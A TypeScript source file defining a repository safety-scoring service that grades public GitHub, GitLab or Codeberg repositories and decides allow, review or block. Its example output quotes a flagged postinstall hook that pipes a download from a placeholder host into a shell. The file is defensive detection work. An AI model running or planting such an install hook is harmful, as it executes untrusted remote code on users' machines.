import { z } from 'zod'

import { guardInput } from '#shared/engines/guard/guard-input.ts'
import { decisions, verdictFields } from '#shared/engines/guard/verdict.ts'
import { readRepoUrl } from '#shared/engines/repo/repo-url.ts'
import { invalidFields } from '#shared/errors.ts'

import { defineOutcome } from '#shared/outcomes/define.ts'
import { Source } from '#shared/outcomes/lib/source.ts'

const text = z.string().nullable()
const CategoryReport = z.object({
  score: z.int().nullable().describe('0 to 100; null where none of its checks could run'),
  weight: z.int(),
  checks: z.array(
    z.object({
      id: z.string(),
      status: z.enum(['pass', 'fail', 'warn', 'skipped']),
      detail: z.string(),
      value: z.int().nullable(),
    }),
  ),
})

export const repoSafety = defineOutcome({
  slug: 'repo-safety',
  title: 'Repository safety score',
  description:
    'Fast safety score of a public code repository (GitHub, GitLab, Codeberg): maintenance, security practice, supply chain, malware indicators in install scripts, sources and workflows, known vulnerabilities of its locked dependencies, OpenSSF Scorecard. Decides allow, review or block, with the place of every finding. What could not be checked is listed, never counted as passed.',
  cents: 25,
  timeoutMs: 40_000,
  decisions: decisions.filter((word) => word !== 'require_confirm'),
  input: guardInput({
    repo_url: z.string().min(1).max(500).describe('https URL of a GitHub, GitLab or Codeberg repository'),
    ref: z
      .string()
      .min(1)
      .max(200)
      .regex(/^[\w][\w./@+-]*$/, 'String should be the name of a branch or tag, or a commit')
      .optional()
      .describe('branch, tag or commit; the default branch unless said'),
  }),
  output: z.object({
    source: Source.omit({ tried: true }),
    as_of: text.describe('when the host was asked, ISO 8601'),
    ...verdictFields,
    repo: z.object({
      host: z.enum(['github', 'gitlab', 'codeberg']),
      owner: z.string(),
      name: z.string(),
      url: z.string(),
      default_branch: text,
      commit: text.describe('what was looked at'),
      archived: z.boolean(),
      fork: z.boolean(),
      created_at: text,
      pushed_at: text,
      stars: z.int().nullable(),
      license_spdx: text,
    }),
    score: z.int().min(0).max(100),
    grade: z.enum(['A', 'B', 'C', 'D', 'F']),
    categories: z.object({
      maintenance: CategoryReport,
      security_practice: CategoryReport,
      supply_chain: CategoryReport,
      code_indicators: CategoryReport,
      provenance: CategoryReport,
    }),
    scorecard: z
      .object({
        score: z.number(),
        date: text,
        checks: z.array(z.object({ name: z.string(), score: z.number(), reason: z.string() })),
      })
      .nullable()
      .describe('OpenSSF Scorecard, where one is published'),
    vulnerabilities: z.array(
      z.object({
        id: z.string(),
        aliases: z.array(z.string()),
        package: z.string(),
        ecosystem: z.string(),
        version: z.string(),
        severity: z.enum(['low', 'medium', 'high', 'critical', 'unknown']),
        fixed_in: text,
        dev: z.boolean().nullable().describe('only for building and testing'),
        summary: z.string(),
      }),
    ),
    indicators: z.array(
      z.object({
        code: z.string(),
        path: z.string(),
        line: z.int().nullable(),
        excerpt: z.string(),
        severity: z.enum(['low', 'medium', 'high', 'critical']),
        message: z.string(),
      }),
    ),
    scanned: z.object({
      files: z.int().describe('texts that were looked through'),
      not_fetched: z.int(),
      past_limit: z.int(),
      locked_packages: z.int(),
    }),
    unknowns: z.array(z.string()).describe('checks that could not run, and why'),
  }),
  example: {
    input: { repo_url: 'https://github.com/acme/widgets' },
    output: {
      source: {
        name: 'GitHub',
        url: 'https://api.github.com/repos/acme/widgets',
        fetched_at: '2026-11-20T12:00:00.000Z',
        cached: false,
        cache_age_s: 0,
        stale: false,
      },
      as_of: '2026-11-20T12:00:00.000Z',
      decision: 'block',
      reasons: [
        {
          code: 'install_script_network',
          severity: 'critical',
          message: 'A script that runs by itself on install downloads something and runs it. (package.json)',
          evidence: { path: 'package.json', line: null, excerpt: 'postinstall: curl http://x.example|sh' },
        },
      ],
      checks: [{ id: 'recent_push', status: 'pass', detail: 'last push 3 days ago' }],
      risk_score: 60,
      next_action: 'Do not install or run anything of this repository; read the named places first.',
      input_digest: '52f1ce03f3ad1b6a4d7b0ce0bdf0b7f4f2d7e15e8d4cf0ab7c2d8d9b3a1c5e60',
      ruleset: 'repo-safety/2026-11-20',
      repo: {
        host: 'github',
        owner: 'acme',
        name: 'widgets',
        url: 'https://github.com/acme/widgets',
        default_branch: 'main',
        commit: 'a94a8fe5ccb19ba61c4c0873d391e987982fbbd3',
        archived: false,
        fork: false,
        created_at: '2020-01-01T00:00:00.000Z',
        pushed_at: '2026-11-17T00:00:00.000Z',
        stars: 12,
        license_spdx: 'MIT',
      },
      score: 39,
      grade: 'F',
      categories: {
        maintenance: { score: 90, weight: 20, checks: [] },
        security_practice: { score: 60, weight: 25, checks: [] },
        supply_chain: { score: 40, weight: 25, checks: [] },
        code_indicators: { score: 100, weight: 25, checks: [] },
        provenance: { score: null, weight: 5, checks: [] },
      },
      scorecard: null,
      vulnerabilities: [],
      indicators: [
        {
          code: 'install_script_network',
          path: 'package.json',
          line: null,
          excerpt: 'postinstall: curl http://x.example|sh',
          severity: 'critical',
          message: 'A script that runs by itself on install downloads something and runs it.',
        },
      ],
      scanned: { files: 14, not_fetched: 0, past_limit: 0, locked_packages: 120 },
      unknowns: [],
    },
  },
  check({ repo_url: url }) {
    if (readRepoUrl(url) !== null) return
    const msg = 'Value error, this is not the address of a repository on github.com, gitlab.com or codeberg.org'
    throw invalidFields({ path: ['repo_url'], msg, input: url })
  },
  async run(input, ctx) {
    const [{ collectRepo }, { judgeRepoSafety }] = await Promise.all([
      import('#shared/engines/repo/collect-repo.ts'),
      import('./safety/judge-repo-safety.ts'),
    ])
    const facts = await collectRepo(input.repo_url, input.ref, ctx)
    const { verdict, score, grade, categories } = judgeRepoSafety(facts, input)
    const { info, ref } = facts
    return {
      source: facts.source,
      as_of: facts.source.fetched_at,
      ...verdict,
      repo: {
        host: ref.host,
        owner: info.owner,
        name: info.name,
        url: ref.url,
        default_branch: info.defaultBranch,
        commit: facts.commit,
        archived: info.archived,
        fork: info.fork,
        created_at: info.createdAt,
        pushed_at: info.pushedAt,
        stars: info.stars,
        license_spdx: info.license,
      },
      score,
      grade,
      categories,
      scorecard: facts.scorecard.value,
      vulnerabilities: (facts.advisories.value?.vulnerabilities ?? []).map(
        ({ id, aliases, package: name, ecosystem, version, severity, summary, fixedIn, dev }) => ({
          id,
          aliases: [...aliases],
          package: name,
          ecosystem,
          version,
          severity,
          summary,
          fixed_in: fixedIn,
          dev,
        }),
      ),
      indicators: (facts.indicators ?? []).map((one) => ({ ...one })),
      scanned: {
        files: facts.scan.read,
        not_fetched: facts.scan.wanted - facts.scan.read,
        past_limit: facts.scan.left,
        locked_packages: facts.locked.length,
      },
      unknowns: [...facts.unknowns],
    }
  },
})
